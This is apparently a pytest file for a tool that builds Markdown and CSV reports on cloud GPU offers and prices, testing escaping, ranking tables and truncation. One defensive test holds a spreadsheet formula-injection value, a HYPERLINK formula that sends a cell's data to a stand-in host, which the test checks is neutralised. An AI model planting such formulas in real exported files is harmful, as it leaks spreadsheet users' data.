    written = sorted((flow_run.reports / "charts").glob("*.png"))
    # two per workload on a first run (the history chart needs two runs), and the back-test's on estimates.md (no
    # cost-against-interactivity chart: the snapshot's load points of one offer share one per-user speed)
    assert len(written) == 2 * 9 + 1
    for path in written:
        assert path.stat().st_size > 5_000
        with Image.open(path) as image:
            assert image.format == "PNG" and image.size == (700, 400)
        page = "estimates" if path.name == "estimate-backtest.png" else (
            path.name.rsplit("-outcome-vs-chip-hour", 1)[0].rsplit("-top-candidates", 1)[0]
            .rsplit("-cost-vs-interactivity", 1)[0])
        assert f"](charts/{path.name})" in (flow_run.reports / f"{page}.md").read_text(), path.name


def test_text_from_data_never_breaks_a_line_or_a_table_cell():
    assert md_escape("line one\nline two | three\r\n- four") == "line one line two \\| three - four"


# CommonMark with GitHub's tables and strikethrough, as the pages are read
GFM = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def test_a_bare_url_www_or_e_mail_address_in_data_is_no_link():
    """GitHub's extended autolinks (and mistune's url plugin) link a bare https://, www. or e-mail address in plain
    text: from data (an MLPerf system name, a price sheet's note) that is a link the page did not mean. A backslash
    before its ':', '.' or '@' keeps it text, shown as written; a time or a ratio keeps its colon."""
    import mistune

    autolinking = mistune.create_markdown(plugins=["url"])
    for text, escaped in [("see https://evil.example.com/x", "see https\\://evil.example.com/x"),
                          ("www.evil.example.com", "www\\.evil.example.com"),
                          ("ops@evil.example.com", "ops\\@evil.example.com"),
                          ("a_www.evil.example.com", "a_www\\.evil.example.com"),  # GFM links www. after an _ too
                          ("at 10:30, 2:1 and awww.x", "at 10:30, 2:1 and awww.x")]:
        assert md_escape(text) == escaped
        assert autolinking(escaped) == f"<p>{text}</p>\n"  # shown as written, no <a>
        assert GFM.renderInline(escaped) == text


def test_text_from_data_opens_no_emphasis_or_strikethrough():
    # an underscore is escaped where it could open or close emphasis (not between two letters or digits: on_prem,
    # Standard_ND96isr_H100_v5 stay as they are); every tilde is escaped (~~x~~ and ~x~ strike through)
    text = "on_prem _owned_ ~~box~~ rack_ 7 __init__ Standard_ND96isr_H100_v5 ~390"
    escaped = md_escape(text)
    assert escaped == ("on_prem \\_owned\\_ \\~\\~box\\~\\~ rack\\_ 7 \\_\\_init\\_\\_ Standard_ND96isr_H100_v5 "
                       "\\~390")
    assert GFM.renderInline(escaped) == text  # drawn as written: no <em>, <strong> or <s>
    # inside the page's own italics (a chart caption), a name ending in _ no longer ends them early
    assert GFM.renderInline(f"_{md_escape('on_prem rack_ 7')} per chip-hour._") == "<em>on_prem rack_ 7 per chip-hour.</em>"


@pytest.mark.parametrize("text", ["1. Fine-tune a model", "2) then", "- a list", "+ a list", "=====", "    indented",
                                  "~~~ fence", "___", "--- break", "# heading", "> quote"])
def test_text_from_data_that_opens_a_line_stays_a_paragraph(text):
    # a workload's description opens a line of its page: its first characters must not make a list, a heading (or
    # the underline of one), a code block or fence, a thematic break or a quote
    assert GFM.render(md_line(text)) == f"<p>{html.escape(text.strip(), quote=False)}</p>\n"
    # text that only starts like a number stays as it is: 15% is no list
    assert md_line("15% cheaper") == "15% cheaper"


def test_text_from_data_in_a_code_span_is_shown_exactly():
    # a code span takes no backslash escapes: the fence outgrows the backticks in the text instead
    assert md_code("price_positive") == "`price_positive`"
    assert md_code("price*positive|`x") == "``price*positive|`x``"
    assert md_code("`x") == "`` `x ``"
    for text in ["price_positive", "price*positive|`x", "`x", "a``b", "<b>&"]:
        assert GFM.renderInline(md_code(text)) == f"<code>{html.escape(text, quote=False)}</code>"


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    # a price sheet's name becomes an offer's instance_type; its site the region
    frame = pl.DataFrame({
        "instance_type": ['=HYPERLINK("https://x.example/?d="&A2,"open")', "@SUM(1+1)", "+1", "-2", "\tx", "p5-48x",
                          None],
        "usd_per_hour": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],  # numbers are written as numbers, a minus and all
    })
    assert csv_text(frame).splitlines() == [
        "instance_type,usd_per_hour",
        '"\'=HYPERLINK(""https://x.example/?d=""&A2,""open"")",-1.5',
        "'@SUM(1+1),2.0",
        "'+1,3.0",
        "'-2,4.0",
        "'\tx,5.0",
        "p5-48x,6.0",
        ",7.0",
    ]


def test_the_offers_page_lists_each_instance_type_once_at_its_cheapest_term_and_says_where_every_offer_is(
        flow_run, tmp_path, monkeypatch):
    # p5.48xlarge is priced in us-east-1 (on demand 55.04, spot 10.24) and eu-north-1 (58.8928, 28.32) in the
    # snapshot. Add ap-south-1: on demand 50.00 and 45.00 (two listings), spot 9.80, reserved 22.8311 (3yr), 35.00
    # (1yr) and 21.00 (no detail); and a reserved term in us-east-1 at 20.00, cheaper than any reserved term of
    # ap-south-1 but not where the type is cheapest. Two of its offers carry a hardware note. And g5.2xlarge (on demand
    # only, 1.212 in us-east-1) at the same price in eu-west-1, both without a hardware basis.
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("""
            insert into marts.offers by name
            select offers.* replace ('aws:ap-south-1:p5.48xlarge:' || added.term as offer_id, 'ap-south-1' as region,
                                    added.term as pricing_term, added.detail as term_detail, added.usd as usd_per_hour,
                                    added.usd / accelerator_count as usd_per_chip_hour, added.source as price_source_id)
            from marts.offers as offers, (values ('on_demand', null, 50.0, 'aws_pricing'),
                                                 ('on_demand-b', null, 45.0, 'aws_pricing'),
                                                 ('spot', null, 9.8, 'aws_spot'),
                                                 ('reserved-3yr', '3yr All Upfront standard', 22.8311, 'aws_pricing'),
                                                 ('reserved-1yr', '1yr No Upfront standard', 35.0, 'aws_pricing'),
                                                 ('reserved-flex', null, 21.0, 'aws_pricing'))
                                 as added(term, detail, usd, source)
            where offer_id = 'aws:us-east-1:p5.48xlarge:spot';
            update marts.offers set pricing_term = split_part(pricing_term, '-', 1) where pricing_term like '%-%';
            insert into marts.offers by name
            select * replace ('aws:us-east-1:p5.48xlarge:reserved-3yr' as offer_id, 'reserved' as pricing_term,
                              '3yr All Upfront standard' as term_detail, 20.0 as usd_per_hour, 2.5 as usd_per_chip_hour)
            from marts.offers where offer_id = 'aws:us-east-1:p5.48xlarge:on_demand';
            update marts.offers set hardware_note = 'the note of the ap-south-1 listing'
            where offer_id = 'aws:ap-south-1:p5.48xlarge:on_demand';
            update marts.offers set hardware_note = 'the note of the us-east-1 listing'
            where offer_id = 'aws:us-east-1:p5.48xlarge:spot';
            insert into marts.offers by name
            select * replace ('aws:eu-west-1:g5.2xlarge:on_demand' as offer_id, 'eu-west-1' as region)
            from marts.offers where offer_id = 'aws:us-east-1:g5.2xlarge:on_demand';
            update marts.offers set hardware_basis = '' where instance_type = 'g5.2xlarge';
            insert into marts.unknown_offers by name select * replace ('westus' as region) from marts.unknown_offers;
            """)
        monkeypatch.setattr(offers_page, "OFFER_TYPES_LISTED", 13)
        monkeypatch.setattr(offers_page, "UNKNOWN_LISTINGS_LISTED", 1)
        files, counts = offers_page.render(con, AS_OF)
        every_offer = relations.fetch_frame(con, "select * from marts.offers where as_of = ?", [AS_OF])
    finally:
        discard(con)
    # 57 offers in the snapshot + 6 + 1 + 1; the index names the terms and the unknown listings (1 + the copy)
    assert counts == {"offers": 65, "terms": ["on_demand", "reserved", "spot"], "unknown": 2}
    page = files["offers.md"]
    # the bound is a cloud's: aws's 22 instance types are cut to 13, azure's 7 and gcp's 7 listed whole: 27 of 36
    assert ("Every offer in every region and term (65 offers), with every column: [offers.csv](offers.csv) and the "
            "warehouse's `marts.offers`.\nListed: the first 13 instance types of each cloud, 27 of 36 (aws sells "
            "22).") in page
    rows = [line for line in page.split("## Where each offer", 1)[0].splitlines() if line.startswith("| ")]
    # the header, then aws's first 13 in order of name: c8a, c8g, c8i.96, c8i.metal, g5, g6, g6e, inf2.48, inf2.8,
    # inf2.x, p4d, p4de and p5.48xlarge; then azure's and gcp's
    assert len(rows) == 1 + 27 and rows[1].startswith("| aws c8a.48xlarge |")
    assert rows[14].startswith("| azure Standard_D64ps_v6 |") and rows[-1].startswith("| gcp tpu-v6e-8 |")
    # p5.48xlarge is cheapest on ap-south-1's spot term (9.80 < 10.24 < 28.32), once for its three regions; beside
    # it that region's cheapest on-demand (45.00 < 50.00) and cheapest reserved term (21.00 < 22.8311 < 35.00, with
    # no detail to name; us-east-1's 20.00 is another region's); 9.80 / 8 chips = 1.225 per chip-hour;
    # 1 - 9.80 / 45.00 = 0.782, a 78% saving; on demand from 45.00 to 58.8928 across the regions. Its prices come
    # from two sources (the added rows keep the spot offer's date): on-demand's and reserved's from aws_pricing,
    # spot's from aws_spot, each named, not the cheapest term's alone
    assert rows[13] == ("| aws p5.48xlarge | h100-sxm-80gb x 8 | 3 | ap-south-1 | 45.00 | 9.800 | 21.00 | **spot** | "
                        "9.800 | 1.225 | 78% | 45.00 to 58.89 | on-demand, reserved: aws_pricing (2026-11-20); "
                        "spot: aws_spot (2026-11-20) |")
    # g5.2xlarge's two regions at one price: the tie goes to the first offer id (aws:eu-west-1 < aws:us-east-1),
    # and its on-demand price is the same across them
    assert ("| aws g5.2xlarge | a10g-24gb x 1 | 2 | eu-west-1 | 1.212 | — | — | **on_demand** | 1.212 | 1.212 | — "
            "| 1.212 | aws_pricing (2026-09-10) |") in rows
    # where the hardware comes from: g5.2xlarge without a basis counted under "—" (one type); an instance type's
    # note once, that of its last offer id (aws:us-east-1 > aws:ap-south-1)
    hardware = page.split("## Where each offer", 1)[1].split("## Offers whose hardware is not known", 1)[0]
    assert "| — | 1 |" in hardware
    assert "| aws | p5.48xlarge | the note of the us-east-1 listing |" in hardware
    assert "ap-south-1 listing" not in hardware
    # the unknown listings: the first (azure eastus), then how many more and where they are
    unknown = page.split("## Offers whose hardware is not known", 1)[1]
    assert "2 listings from the price sources name" in unknown
    assert "| azure | eastus | Standard_NC4as_T4_v3 |" in unknown and "| westus |" not in unknown
    assert ("Listed: the first 1 of 2 listings; all of them are in the warehouse's `marts.unknown_offers`."
            in unknown)
    # offers.csv: every offer, every column of marts.offers
    written = pl.read_csv(files["offers.csv"].encode(), infer_schema_length=0)
    assert written.columns == every_offer.columns and written.height == 65
    assert sorted(written["offer_id"].to_list()) == sorted(every_offer["offer_id"].to_list())
    assert "aws:us-east-1:p5.48xlarge:reserved-3yr" in written["offer_id"].to_list()


def test_each_price_of_an_offers_row_names_its_own_source_and_date(flow_run, tmp_path):
    # the snapshot's p5.48xlarge: cheapest on us-east-1's spot term (10.24, aws_spot as of 2026-11-20, against
    # eu-north-1's 28.32) beside that region's on-demand 55.04 from aws_pricing as of 2026-09-10
    page = (flow_run.reports / "offers.md").read_text()
    assert ("| aws p5.48xlarge | h100-sxm-80gb x 8 | 2 | us-east-1 | 55.04 | 10.24 | — | **spot** | 10.24 | 1.280 | "
            "81% | 55.04 to 58.89 | on-demand: aws_pricing (2026-09-10); spot: aws_spot (2026-11-20) |") in page
    # a price from a file sources.yaml marks unverified says so, on its own term only
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("update marts.offers set price_unverified = true where offer_id = 'aws:us-east-1:p5.48xlarge:spot'")
        page = offers_page.render(con, AS_OF)[0]["offers.md"]
    finally:
        discard(con)
    assert "| on-demand: aws_pricing (2026-09-10); spot: aws_spot (2026-11-20), UNVERIFIED |" in page


def test_the_offers_pages_corrections_are_bounded_and_say_where_the_rest_are(flow_run, tmp_path, monkeypatch):
    # every offer of the snapshot gets a hardware note (its instance type's own, the two declared ones replaced): 36
    # instance types (aws 22, azure 7, gcp 7); listed 2, in the order of cloud and instance type
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("update marts.offers set hardware_note = 'note of ' || instance_type")
        monkeypatch.setattr(offers_page, "HARDWARE_NOTES_LISTED", 2)
        page = offers_page.render(con, AS_OF)[0]["offers.md"]
    finally:
        discard(con)
    notes = page.split("Corrections and listings overridden:", 1)[1].split("\n## ", 1)[0]
    assert [line for line in notes.splitlines() if line.startswith("| ")] == [
        "| cloud | instance type | what and why |", "| aws | c8a.48xlarge | note of c8a.48xlarge |",
        "| aws | c8g.metal-24xl | note of c8g.metal-24xl |"]
    assert ("Listed: the first 2 of 36 instance types; all of them are in the warehouse's `marts.offers` "
            "(`hardware_note`).") in notes
    assert "Listed:" not in (flow_run.reports / "offers.md").read_text().split("Corrections", 1)[1].split("\n## ", 1)[0]


def test_text_from_data_of_any_length_is_cut_on_the_pages(flow_run, tmp_path):
    # a rejected value of 200,000 characters, a listing whose instance type, accelerators and reference run to
    # 50,000 and a hardware note of 10,000: each quoted to MAX_QUOTED_CHARS (200) characters and its length
    long_value, long_name = "v" * 200_000, "n" * 50_000
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("insert into ops.quarantine by name "
                    "select * replace (? as unexpected_value, row_no + 1000 as row_no) from ops.quarantine "
                    "where expectation = 'accelerator_has_alias' limit 1", [long_value])
        con.execute("insert into marts.unknown_offers by name "
                    "select * replace (? as instance_type, ? as accelerators_listed, ? as price_ref) "
                    "from marts.unknown_offers limit 1", [long_name] * 3)
        con.execute("update marts.offers set hardware_note = repeat('h', 10000) where instance_type = 'trn2.48xlarge'")
        pages = reports.render(con, AS_OF)
    finally:
        discard(con)
    index, offers = pages["index.md"], pages["offers.md"]
    assert f"{'v' * 200}… (200,000 characters) (1)" in index and "v" * 201 not in index
    assert len(index.encode()) < 50_000  # 2 MB before the cut
    assert f"| {'n' * 200}… (50,000 characters) | " in offers and "n" * 201 not in offers
    assert f"| aws | trn2.48xlarge | {'h' * 200}… (10,000 characters) |" in offers


def test_a_reversal_list_says_how_many_it_leaves_out_and_where_they_are(flow_run):
    # llama31-8b-chat-small has 31 candidates dearer per chip-hour and cheaper per outcome than another
    # (marts.rankings where is_reversal); its page lists REVERSALS_LISTED = 5 of them and says so
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        [(found,)] = con.execute("select count(*) from marts.rankings where workload_id = 'llama31-8b-chat-small' "
                                 "and is_reversal").fetchall()
    finally:
        con.close()
    assert found == 31

    def disagrees(name: str) -> str:
        page = (flow_run.reports / f"{name}.md").read_text()
        return page.split("## Where the hourly price disagrees", 1)[1].split("\n## ", 1)[0]

    section = disagrees("llama31-8b-chat-small")
    assert len([line for line in section.splitlines() if line.startswith("- **")]) == 5
    assert ("Listed: the first 5 of 31 candidates dearer per chip-hour and cheaper per outcome than another; all of "
            "them: `marts.rankings` where `is_reversal`.") in section
    # llama2-70b-lora-finetune has 2: both listed, nothing to say
    lora = disagrees("llama2-70b-lora-finetune")
    assert len([line for line in lora.splitlines() if line.startswith("- **")]) == 2 and "Listed:" not in lora


def test_the_decision_is_a_paragraph_of_its_own(flow_run):
    # the paragraph before it ends in a template condition (the inference note, or none for training)
    for name in ("gpt3-175b-pretrain", "llama31-8b-chat-small"):
        page = (flow_run.reports / f"{name}.md").read_text()
        assert "\n\n**Decision**: pick " in page, name
        assert "<p><strong>Decision</strong>: pick " in GFM.render(page), name


def test_a_dollar_sign_from_data_is_no_math():
    # GitHub renders text between two dollar signs as math: each is escaped, and drawn as written
    assert md_escape("dgx $a$ rack") == "dgx \\$a\\$ rack"
    assert GFM.renderInline(md_escape("dgx $a$ rack")) == "dgx $a$ rack"


def test_a_price_move_gives_the_multiple_and_both_prices_in_one_format():
    change = reports.MARKDOWN.get_template("_sentences.j2").module.change
    # 10.24 to 7.00: 7.00 / 10.24 = 0.68359, "fell to 0.684x" (three figures); 10.24 to 25.60: 25.60 / 10.24 = 2.50x;
    # both prices as the pages write money (`usd`: two decimals from 10, three below) and as the best offer's reason
    # (marts.changes reason_detail, usd_text) gives them
    assert str(change({"change_kind": "price_moved", "label": "aws p5.48xlarge us-east-1 spot", "before_value": 10.24,
                       "after_value": 7.0, "ratio": 7.0 / 10.24})) == (
        "aws p5.48xlarge us-east-1 spot fell to 0.684x (10.24 to 7.000 USD per hour).")
    # a spot price below a dollar: 0.758 was "0.76" (0.758 / 0.8 = 0.9475, "0.948x")
    assert str(change({"change_kind": "price_moved", "label": "aws g6.xlarge us-east-1 spot", "before_value": 0.8,
                       "after_value": 0.758, "ratio": 0.758 / 0.8})) == (
        "aws g6.xlarge us-east-1 spot fell to 0.948x (0.800 to 0.758 USD per hour).")
    assert str(change({"change_kind": "price_moved", "label": "aws p5.48xlarge us-east-1 spot", "before_value": 10.24,
                       "after_value": 25.6, "ratio": 2.5})) == (
        "aws p5.48xlarge us-east-1 spot rose 2.50x (10.24 to 25.60 USD per hour).")


def test_a_benchmark_label_of_any_length_is_cut_on_the_pages():
    """An MLPerf System is the submitter's text: a 200,000-character one made a workload page of 1.8 MB. The label
    is cut to BENCHMARK_LABEL_CHARS (1,000; hweval's own notes in a label run to ~300) and says how long it was."""
    from flows.report_templates import benchmark_label

    label = benchmark_label({"benchmark_label": "MLPerf Inference v4.1 " + "X" * 200_000, "benchmark_as_of": "2024-08-28"})
    assert label == "MLPerf Inference v4.1 " + "X" * 978 + "... (200,022 characters) (2024-08-28)"
